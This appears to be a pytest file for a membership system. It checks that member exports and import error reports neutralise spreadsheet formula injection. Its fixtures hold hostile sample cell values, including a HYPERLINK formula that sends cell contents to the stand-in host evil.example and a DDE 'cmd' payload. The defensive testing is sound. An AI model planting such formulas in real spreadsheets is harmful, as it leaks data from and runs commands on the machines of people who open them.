"""No cell of any file we write can become a formula: member exports (CSV and XLSX) and import
error reports, read back the way a spreadsheet program would."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from huiyuan.members.exports import export_members
from huiyuan.members.imports import error_report_csv
from huiyuan.members.models import ImportJob, Member
from huiyuan.platform.spreadsheets import FORMULA_STARTS

from .conftest import World

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture
def hostile_members(in_alpha: World) -> list[str]:
    for index, name in enumerate(DANGEROUS):
        Member.objects.create(name=name, phone=f"+861370000{index:04d}", card_no=f"X{index}", city="=cmd|' /C calc'!A0")
    return DANGEROUS


def _is_formula_text(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def test_csv_export_neutralises_every_formula(in_alpha: World, hostile_members: list[str]) -> None:
    content, _count = export_members(actor=in_alpha.hq, file_format="csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if _is_formula_text(c)]
    names = {row[1] for row in rows[1:]}
    assert {"'" + name for name in hostile_members} <= names  # the text is kept, visibly


def test_xlsx_export_has_no_formula_cell_and_text_stays_text(in_alpha: World, hostile_members: list[str]) -> None:
    content, _count = export_members(actor=in_alpha.hq, file_format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f" or _is_formula_text(c.value)]
    orders = [c.value for c in cells if c.column == 10 and c.row > 1]
    assert all(isinstance(v, int | float) for v in orders)  # numbers stay numbers


def test_import_error_reports_are_neutralised_too(in_alpha: World) -> None:
    job = ImportJob(
        kind="members",
        original_name="x.csv",
        errors=[{"row": 2, "column": "姓名", "value": '=HYPERLINK("http://evil.example")', "reason": "bad"}],
    )
    rows = list(csv.reader(io.StringIO(error_report_csv(job).decode("utf-8-sig"))))
    assert rows[1][2] == '\'=HYPERLINK("http://evil.example")'
